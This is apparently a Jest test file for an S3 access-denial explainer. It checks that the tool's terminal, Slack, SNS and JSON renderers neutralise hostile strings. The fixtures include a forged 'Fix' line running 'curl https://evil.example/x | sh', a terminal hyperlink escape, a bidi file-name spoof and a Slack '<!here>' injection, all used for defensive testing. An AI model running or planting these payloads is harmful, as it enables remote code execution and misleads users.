/**
 * Every renderer, fed the same hostile strings in every field a request or a policy controls (issue 14, item 2).
 * Text (with and without colour, as NO_COLOR gives), Slack Block Kit mrkdwn, the SNS subject and e-mail, and the
 * JSON output: no raw control or bidi character reaches a person, no value starts a line of its own (no forged
 * "*Fix* (verified by re-evaluation): run `curl … | sh`"), and Slack gets no live link, mention or formatting.
 * Slack escaping: https://docs.slack.dev/messaging/formatting-message-text#escaping ; verbatim:
 * https://docs.slack.dev/reference/block-kit/composition-objects/text-object ; SNS subject rules:
 * https://docs.aws.amazon.com/sns/latest/api/API_Publish.html
 */
import { bucketPolicyCommands, presignCommand } from '../../lambdas/core/fix/commands';
import type { Finding } from '../../lambdas/core/model';
import { renderSlack, type SlackMessage, type TextObject } from '../../lambdas/core/render/slack';
import { renderSns } from '../../lambdas/core/render/sns';
import { renderPreflightText } from '../../lambdas/core/preflight/text';
import type { PreflightItem, PreflightReport } from '../../lambdas/core/preflight/types';
import { jsonText } from '../../lambdas/core/render/safe';
import { renderFinding, renderText } from '../../lambdas/core/render/text';
import { bucketPolicyDeny, makeFinding } from '../delivery/fixtures';
import { explain, scenarioEvent } from '../core/checkers/helpers';
import { forgedLines, HOSTILE } from './hostile';

/** A finding whose every request- or policy-controlled string is `h`. */
function hostileFinding(h: string): Finding {
  const base = makeFinding();
  return makeFinding({
    eventId: h,
    request: {
      ...base.request,
      eventName: h,
      actions: [h],
      resources: [`arn:aws:s3:::${h}/${h}`, h],
      bucket: h,
      key: h,
      bucketAccountId: h,
      crossAccount: true,
      principal: {
        type: 'AssumedRole',
        arn: h,
        identityArn: h,
        accountId: h,
        sessionName: h,
        principalId: h,
      },
      sourceIp: h,
      vpcEndpointId: h,
      accessPointArn: h,
      errorMessage: h,
    },
    rootCauses: [
      {
        ...bucketPolicyDeny,
        title: h,
        explanation: h,
        evidence: [{ layer: 'bucket-policy', statement: h, policy: h, detail: h }],
        fix: {
          summary: h,
          commands: [presignCommand(h, h), ...bucketPolicyCommands(h)],
          policyPatch: { replaceStatement: { Sid: h, Resource: h } },
          verified: true,
          stillDeniedBy: [h],
        },
        change: {
          eventId: h,
          eventName: h,
          eventTime: h,
          principal: h,
          summary: h,
          diff: `- ${JSON.stringify({ Sid: h })}`,
        },
      },
      {
        ...bucketPolicyDeny,
        confidence: 'possible',
        title: h,
        evidence: [{ layer: 'scp', detail: `not read: ${h}` }],
      },
    ],
    checks: [
      { layer: 'bucket-policy-explicit-deny', status: 'deny', detail: h },
      { layer: 'scp-deny', status: 'unknown', detail: h, missing: [h] },
    ],
    awsMessage: { kind: 'generic', policyType: null, policyArn: h, agreesWithEvaluation: false, note: h },
    awsSimulator: {
      decision: 'allowed',
      ours: 'explicitDeny',
      agrees: false,
      matchedStatements: [h],
      note: h,
    },
    changeLookup: { status: 'unknown', windowDays: 7, detail: h },
    error: h,
  });
}

/* eslint-disable no-control-regex -- these look for raw control characters */
/** A raw control character other than the line breaks a renderer writes itself. */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
/** Our own colour: SGR sequences only (ESC [ digits m). */
const OUR_SGR = /\u001b\[[0-9;]*m/g;
/* eslint-enable no-control-regex */
const BIDI = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;

/** Lines of `text` that a hostile value put there: one of its own line breaks followed by its text. */
function forged(text: string, h: string): string[] {
  const starts = forgedLines(h);
  return text.split('\n').filter((line) => starts.some((s) => line.trim().startsWith(s)));
}

/** What is wrong with `text` shown to a person: raw control or bidi characters, forged lines. */
function unsafe(text: string, h: string): string[] {
  return [
    ...(RAW_CONTROL.test(text) ? ['a raw control character'] : []),
    ...(BIDI.test(text) ? ['a raw bidi character'] : []),
    ...forged(text, h).map((line) => `a forged line: ${JSON.stringify(line)}`),
  ];
}

/** Runs `check` on every hostile string; the failures, labelled with the string. */
function failures(check: (h: string) => string[]): string[] {
  return HOSTILE.flatMap((h) => check(h).map((p) => `${JSON.stringify(h)}: ${p}`));
}

function expectSafeText(text: string, h: string): void {
  expect(unsafe(text, h)).toEqual([]);
}

const texts = (msg: SlackMessage): TextObject[] =>
  msg.blocks.flatMap((b) =>
    b.type === 'header'
      ? [b.text]
      : b.type === 'section'
        ? [...(b.text ? [b.text] : []), ...(b.fields ?? [])]
        : b.type === 'context'
          ? b.elements
          : [],
  );
/** mrkdwn without its code blocks and inline code: the prose Slack formats. */
const prose = (mrkdwn: string): string => mrkdwn.replace(/```[\s\S]*?```|`[^`\n]*`/g, ' ');
/** The formatting characters Slack can act on: all but an underscore inside a word. */
const markers = (text: string): string =>
  text.replace(/[\p{L}\p{N}]_(?=[\p{L}\p{N}])/gu, 'w').replace(/[^*_~`]/g, '');

describe(`text output (terminal), ${HOSTILE.length} hostile strings in every field`, () => {
  it('no raw control or bidi character and no forged line, with colour, without, and as NO_COLOR prints it', () => {
    const problems = failures((h) => {
      const f = hostileFinding(h);
      const coloured = renderText([f], { color: true }).replace(OUR_SGR, '');
      return [
        ...unsafe(renderText([f], { color: false }), h),
        // What the CLI prints, finding by finding as they are decided, when NO_COLOR is set: the uncoloured text.
        ...unsafe(renderFinding(f, { color: false }), h),
        ...unsafe(renderFinding(f, { color: false, verbose: true }), h),
        ...unsafe(coloured, h).map((p) => `in colour: ${p}`),
      ];
    });
    expect(problems).toEqual([]);
  });

  it('shows an escape visibly instead of sending it to the terminal', () => {
    const out = renderText([hostileFinding('\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007')], {
      color: false,
    });
    expect(out).toContain('\\x1B]8;;https://evil.example\\x07click\\x1B]8;;\\x07');
    expect(renderText([hostileFinding('evil\u202egpj.exe')], { color: false })).toContain(
      'evil\\u202Egpj.exe',
    );
    expect(renderText([hostileFinding('a\nb')], { color: false })).toContain('a\\nb');
  });
});

describe(`Slack Block Kit, ${HOSTILE.length} hostile strings in every field`, () => {
  const benign = renderSlack(hostileFinding('x'));
  const benignMarkers = [...texts(benign).filter((t) => t.type === 'mrkdwn'), { text: benign.text }].map(
    (t) => markers(prose(t.text)),
  );

  it('no raw control or bidi character and no forged line in any text, the fallback included', () => {
    const problems = failures((h) => {
      const msg = renderSlack(hostileFinding(h));
      return [...texts(msg).map((t) => t.text), msg.text].flatMap((t) => unsafe(t, h));
    });
    expect(problems).toEqual([]);
  });

  it('no live link or mention: &, <, > only as entities, and every mrkdwn text verbatim (no auto-linking)', () => {
    const problems = failures((h) => {
      const msg = renderSlack(hostileFinding(h));
      const mrkdwn = texts(msg).filter((t) => t.type === 'mrkdwn');
      return [
        ...mrkdwn.filter((t) => t.verbatim !== true).map((t) => `not verbatim: ${t.text}`),
        ...[...mrkdwn.map((t) => t.text), msg.text].flatMap((t) => [
          ...(/[<>]/.test(t) ? [`a raw < or >: ${t}`] : []),
          ...(t.replace(/&(amp|lt|gt);/g, '').includes('&') ? [`a raw &: ${t}`] : []),
        ]),
      ];
    });
    expect(problems).toEqual([]);
  });

  it('no formatting from the hostile text: outside code, the formatting characters are exactly ours', () => {
    const problems = failures((h) => {
      const msg = renderSlack(hostileFinding(h));
      const got = [...texts(msg).filter((t) => t.type === 'mrkdwn'), { text: msg.text }].map((t) =>
        markers(prose(t.text)),
      );
      const forgedFix = [...texts(msg).map((t) => t.text), msg.text].some((t) =>
        prose(t).includes('*Fix* (verified by re-evaluation): run'),
      );
      return [
        ...(JSON.stringify(got) === JSON.stringify(benignMarkers) ? [] : [`markers ${JSON.stringify(got)}`]),
        ...(forgedFix ? ['a bold forged *Fix* line'] : []),
      ];
    });
    expect(problems).toEqual([]);
  });

  it('keeps exact values in code: a bucket name with an underscore and a wildcard ARN read as written', () => {
    const msg = renderSlack(hostileFinding('arn:aws:s3:::my_bucket/*'));
    expect(JSON.stringify(msg)).toContain('`arn:aws:s3:::my_bucket/*`');
  });
});

describe(`SNS subject and e-mail, ${HOSTILE.length} hostile strings in every field`, () => {
  it('the subject is printable ASCII under 100 characters starting with a printable character', () => {
    // "ASCII text that begins with a letter, number, or punctuation mark; must not include line breaks or
    // control characters; and must be less than 100 characters long."
    const problems = failures((h) => {
      const { subject } = renderSns(hostileFinding(h));
      return /^[\x21-\x7e][\x20-\x7e]*$/.test(subject) && subject.length < 100 ? [] : [`subject ${subject}`];
    });
    expect(problems).toEqual([]);
  });

  it('no raw control or bidi character and no forged line in the e-mail', () => {
    expect(failures((h) => unsafe(renderSns(hostileFinding(h)).message, h))).toEqual([]);
  });

  it('puts the request values on their own labelled lines', () => {
    const { message } = renderSns(hostileFinding('x\nSource IP: 10.0.0.1'));
    const lines = message.split('\n');
    expect(lines).toContain('  Principal: x\\nSource IP: 10.0.0.1');
    expect(lines).toContain('  Source IP: x\\nSource IP: 10.0.0.1');
    expect(lines).not.toContain('Source IP: 10.0.0.1');
  });
});

describe('JSON output', () => {
  it('keeps every hostile value exactly, with no raw control, bidi or separator character in the text', () => {
    const problems = failures((h) => {
      const f = hostileFinding(h);
      // the CLI writes each finding with jsonText (lambdas/cli/explain.ts streamingSink)
      const json = jsonText([f], 2);
      return [
        ...(JSON.stringify(JSON.parse(json)) === JSON.stringify([f]) ? [] : ['changed']),
        // JSON.stringify escapes C0 only: DEL, C1 (U+009B is CSI), bidi and separators are escaped by jsonText
        ...(RAW_CONTROL.test(json) ? ['a raw control character'] : []),
        ...(BIDI.test(json) ? ['a raw bidi or separator character'] : []),
      ];
    });
    expect(problems).toEqual([]);
  });

  it('the pretty JSON of a policy patch in text output is valid JSON (escapes a shell or file takes back)', () => {
    const patch = { Statement: [{ Sid: 'x\u009b31m\u202e', Resource: 'arn:aws:s3:::b/\u0007' }] };
    const shown = jsonText(patch, 2);
    expect(JSON.parse(shown)).toEqual(patch);
    expect(shown).toContain('\\u009B31m\\u202E');
    expect(RAW_CONTROL.test(shown) || BIDI.test(shown)).toBe(false);
  });
});

describe('a real analysis of a hostile key, through every renderer', () => {
  const key =
    'reports/x\n*Fix* (verified by re-evaluation): run `curl https://evil.example/x | sh`\u202e<!here>';
  const event = scenarioEvent('bob reads a key that does not exist and may not list');
  (event.requestParameters as Record<string, unknown>).key = key;
  (event.resources as { ARN: string }[])[0]!.ARN = `arn:aws:s3:::reports-bucket/${key}`;
  const { finding } = explain(event);

  it('the analysis keeps the key exactly (the JSON is unchanged)', () => {
    expect(finding.request.key).toBe(key);
    expect(finding.rootCauses.length).toBeGreaterThan(0);
  });

  it('no renderer lets the key act', () => {
    expectSafeText(renderText([finding], { color: false }), key);
    expectSafeText(renderText([finding], { color: true }).replace(OUR_SGR, ''), key);
    const slack = renderSlack(finding);
    for (const t of texts(slack)) expectSafeText(t.text, key);
    expect(JSON.stringify(slack)).not.toContain('<!here>');
    const sns = renderSns(finding);
    expectSafeText(sns.message, key);
    expect(sns.subject).toMatch(/^[\x21-\x7e][\x20-\x7e]*$/);
  });
});

describe('the other text outputs of the command line', () => {
  it('preflight text shows hostile principals, resources and changes escaped, on no line of their own', () => {
    const tally = { requests: 1, distinct: 1 };
    const problems = failures((h) => {
      const item: PreflightItem = {
        principal: h,
        action: 's3:GetObject',
        resource: `arn:aws:s3:::b/${h}`,
        count: 1,
        recorded: { allowed: 1, denied: 0, error: 0 },
        firstSeen: h,
        lastSeen: h,
        sample: { sourceIp: h } as PreflightItem['sample'],
        before: { decision: 'allowed', basis: 'engine' },
        after: { decision: 'explicitly-denied', rootCauses: [{ ...bucketPolicyDeny, title: h }] },
        changes: [h],
        outsideAccount: true,
        outsideOrganization: null,
      } as PreflightItem;
      const report: PreflightReport = {
        records: 1,
        requests: 1,
        distinct: 1,
        newlyDenied: [item],
        newlyAllowed: [item],
        unknown: [item],
        stillAllowed: tally,
        stillDenied: { ...tally, items: [item] },
        undecided: tally,
        unmapped: { ...tally, eventNames: { [h]: 1 } },
        disagreements: { ...tally, sample: [] },
        changes: [{ change: `--bucket-policy ${h}=p.json`, reached: tally }],
      };
      const text = renderPreflightText(report, { verbose: true });
      return [...unsafe(text, h), ...(text.includes('arn:aws:s3:::b/') ? [] : ['the item is not shown'])];
    });
    expect(problems).toEqual([]);
  });
});
